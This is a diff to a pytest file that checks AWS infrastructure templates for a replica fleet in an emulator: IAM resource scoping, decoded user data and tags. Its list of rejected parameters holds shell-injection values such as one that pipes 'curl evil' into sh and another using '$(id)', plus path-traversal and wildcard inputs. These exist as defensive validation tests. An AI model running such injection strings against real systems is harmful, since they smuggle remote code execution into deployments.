@@ -1,6 +1,7 @@
 """The templates, deployed to the emulator: made, changed by a change set, read, refused and deleted."""
 
 import ast
+import base64
 import re
 
 import pytest
@@ -20,7 +21,7 @@ TIER = {**NODE, "Tier": "ladybug-standard"}
 FLEET = {
     **NODE,
     "Replica": "default.sec",
-    "GraphId": "sec",
+    "SeedKey": "seeds/sec/readers",
     "VpcCidr": "10.80.0.0/16",
     "SubnetIds": "subnet-1,subnet-2",
     "KeyParameter": "/graphplane/replicas/default/sec",
@@ -268,7 +269,13 @@ def test_a_fleet_serves_behind_its_load_balancer(aws, network):
     assert outputs["Endpoint"] == f"http://{balancer['DNSName']}:8001"
     may = allowed(aws, outputs["RoleArn"], "replica")
     assert [statement["Sid"] for statement in may] == ["FetchAgent", "FetchSeeds", "ListSeeds", "ReadKeys"]
-    assert may[1]["Resource"] == "arn:aws:s3:::graphplane-objects/seeds/sec/*"
+    assert may[1]["Resource"] == "arn:aws:s3:::graphplane-objects/seeds/sec/readers/*"
+    assert may[2]["Condition"] == {"StringLike": {"s3:prefix": ["seeds/sec/readers/*"]}}
+    started = base64.b64decode(machine["UserData"]).decode()
+    assert " --seed seeds/sec/readers --seed-poll-seconds 30 " in started
+    # By these, whoever lists machines and groups knows whose they are.
+    tags = {tag["Key"]: tag["Value"] for tag in group["Tags"]}
+    assert (tags["graphplane.dev/kind"], tags["graphplane.dev/name"]) == ("Replica", "default.sec")
 
     # An update leaves the size to autoscaling, and the group goes on with the version of the template that it is given.
     autoscaling.set_desired_capacity(AutoScalingGroupName=name, DesiredCapacity=3)
@@ -330,7 +337,11 @@ def test_what_holds_data_is_kept_when_a_stack_goes():
         ("tier", TIER, {"SourceArns": "*"}),
         ("tier", TIER, {"SourceArns": "arn:aws:s3:::data,arn:aws:iam::123456789012:role/x"}),
         ("tier", TIER, {"Unknown": "x"}),
-        ("replica-fleet", FLEET, {"GraphId": "sec'; curl evil | sh; '"}),
+        ("replica-fleet", FLEET, {"SeedKey": "seeds/sec'; curl evil | sh; '"}),
+        ("replica-fleet", FLEET, {"SeedKey": "seeds/sec/../other"}),
+        ("replica-fleet", FLEET, {"SeedKey": "seeds/*"}),
+        ("replica-fleet", FLEET, {"SeedKey": "backups/sec"}),
+        ("replica-fleet", FLEET, {"SeedPollSeconds": 0}),
         ("replica-fleet", FLEET, {"ObjectPrefix": "x'$(id)/"}),
         ("replica-fleet", FLEET, {"KeyParameter": "/graphplane/*"}),
         ("replica-fleet", FLEET, {"InstanceType2": "large"}),
